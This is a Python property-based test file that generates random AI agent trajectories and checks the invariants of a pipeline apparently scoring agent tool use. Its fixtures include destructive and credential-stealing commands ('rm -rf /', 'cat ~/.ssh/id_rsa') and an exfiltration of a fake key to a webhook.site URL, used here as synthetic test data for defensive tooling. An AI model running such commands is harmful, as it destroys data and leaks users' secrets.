"""Hypothesis, end to end through every stage: SPEC invariants on random trajectories."""

from __future__ import annotations

import copy
import json

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import rows, stage_connection

TOOLS = ("bash", "read_file", "http_post", "send_email", "write_file", "no_such_tool")
ARGS = {
    "bash": [{"command": "ls -la"}, {"command": "rm -rf /"}, {"command": "cat ~/.ssh/id_rsa"}, {"command": "eval \"$X\""}],
    "read_file": [{"path": "notes.txt"}, {"path": "~/.ssh/id_rsa"}],
    "http_post": [{"url": "https://webhook.site/x1", "data": "k3y-98765432"}, {"url": "https://api.example.com", "data": "hi"}],
    "send_email": [{"to": "bob@example.com", "body": "k3y-98765432"}],
    "write_file": [{"path": "/tmp/run.sh", "content": "echo hi"}],
    "no_such_tool": [{"x": 1}],
}
ERRORS = (None, None, None, "ValidationError: bad input", "HTTP 429", {"type": "approval", "message": "denied"},
          "timed out")
OUTPUTS = ("fine", "secret k3y-98765432", "-----BEGIN KEY-----\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3\n")


@st.composite
def record(draw: st.DrawFn, tid: str) -> str:
    if draw(st.integers(0, 9)) == 0:
        return draw(st.sampled_from(["not json", "[1]", json.dumps({"messages": []}), "{}"]))
    messages: list[dict] = [{"role": "user", "content": "please help"}]
    n = 0
    for _ in range(draw(st.integers(1, 6))):
        if draw(st.integers(0, 5)) == 0:
            messages.append({"role": "user", "content": "and then?"})
            continue
        batch = []
        for _ in range(draw(st.integers(1, 2))):
            n += 1
            tool = draw(st.sampled_from(TOOLS))
            batch.append((f"c{n}", tool, draw(st.sampled_from(ARGS[tool])), draw(st.sampled_from(ERRORS))))
        messages.append({"role": "assistant", "content": draw(st.sampled_from([None, "ok"])), "tool_calls": [
            {"id": c, "function": {"name": t, "arguments": a}} for c, t, a, _ in batch]})
        for c, _, _, err in batch:
            if draw(st.integers(0, 15)) == 0:
                continue  # a missing result
            messages.append({"role": "tool", "tool_call_id": c, "content": "" if err else draw(st.sampled_from(OUTPUTS)),
                             "error": err})
    return json.dumps({"trajectory_id": tid, "suite": draw(st.sampled_from(["a", "b/../c"])), "messages": messages})


@st.composite
def corpora(draw: st.DrawFn) -> list[str]:
    n = draw(st.integers(1, 6))
    ids = [draw(st.sampled_from([f"t{i}", "t0"])) for i in range(n)]  # duplicates happen
    return [draw(record(tid)) for tid in ids]


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(corpora())
def test_spec_invariants(lines: list[str]) -> None:
    con = stage_connection(lines)
    verdicts = rows(con, "select * from verdicts")
    attrition = rows(con, "select * from attrition")
    # conservation: every record exactly once
    lines_seen = sorted([v["source_line"] for v in verdicts] + [a["source_line"] for a in attrition])
    assert lines_seen == list(range(1, len(lines) + 1))
    counts = {r["trajectory_id"]: r for r in rows(con, """
        select a.trajectory_id, count(*) as n_actions,
               (select count(*) from steps s where s.trajectory_id = a.trajectory_id and s.kind = 'tool_call') as n_calls
        from actions a group by all""")}
    for v in verdicts:
        # routes follow SPEC section 3 exactly
        assert (v["route"] == "flow") == (v["max_flow_length"] >= 2)
        c = counts.get(v["trajectory_id"])
        if c:
            assert v["n_retries_collapsed"] == c["n_calls"] - c["n_actions"]
            assert v["n_actions"] == c["n_actions"]


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(record("base"), st.sampled_from(TOOLS[:-1]), st.data())
def test_a_failed_attempt_never_changes_a_verdict(line: str, tool: str, data: st.DataObject) -> None:
    """Inserting a failed (non-blocked) call, with any arguments, before the end leaves the verdict alone."""
    doc = json.loads(line) if line.startswith("{\"trajectory_id\"") else None
    if doc is None:
        return
    base = rows(stage_connection([line]), "select route, verdict from verdicts")
    if not base:
        return
    mutated = copy.deepcopy(doc)
    pos = 1  # right after the opening user message: never after a call still awaiting its result
    args = data.draw(st.sampled_from(ARGS[tool]))
    mutated["messages"][pos:pos] = [
        {"role": "user", "content": "try this"},  # a user turn: the failed call cannot merge into a chain
        {"role": "assistant", "content": None, "tool_calls": [{"id": "zz", "function": {"name": tool, "arguments": args}}]},
        {"role": "tool", "tool_call_id": "zz", "content": "", "error": "ValidationError: missing required argument"},
        {"role": "user", "content": "go on"},
    ]
    got = rows(stage_connection([json.dumps(mutated)]), "select route, verdict from verdicts")
    assert got == base
